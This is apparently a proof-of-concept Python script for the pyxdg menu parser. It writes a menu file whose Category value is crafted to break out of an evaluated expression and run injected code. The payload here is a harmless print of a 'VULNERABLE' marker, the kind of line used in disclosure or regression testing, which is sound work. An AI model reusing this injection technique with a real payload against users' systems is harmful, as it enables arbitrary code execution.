import os
import tempfile

root = tempfile.mkdtemp()
os.makedirs(os.path.join(root, "applications"))
os.makedirs(os.path.join(root, "menus"))
with open(os.path.join(root, "applications", "editor.desktop"), "w") as fh:
    fh.write("[Desktop Entry]\nType=Application\nName=Editor\nExec=editor\nCategories=Utility;\n")
category = "x' in menuentry.Categories or print('VULNERABLE: expression ran from a menu file') or '"
menu = os.path.join(root, "menus", "applications.menu")
with open(menu, "w") as fh:
    fh.write(
        "<!DOCTYPE Menu PUBLIC '-//freedesktop//DTD Menu 1.0//EN' "
        "'http://www.freedesktop.org/standards/menu-spec/1.0/menu.dtd'>\n"
        f"<Menu><Name>Applications</Name><AppDir>{root}/applications</AppDir>"
        f"<Include><Category>{category}</Category></Include></Menu>\n"
    )
os.environ["XDG_DATA_DIRS"] = root
os.environ["XDG_CONFIG_DIRS"] = root

import xdg.Menu  # noqa: E402

xdg.Menu.parse(menu)
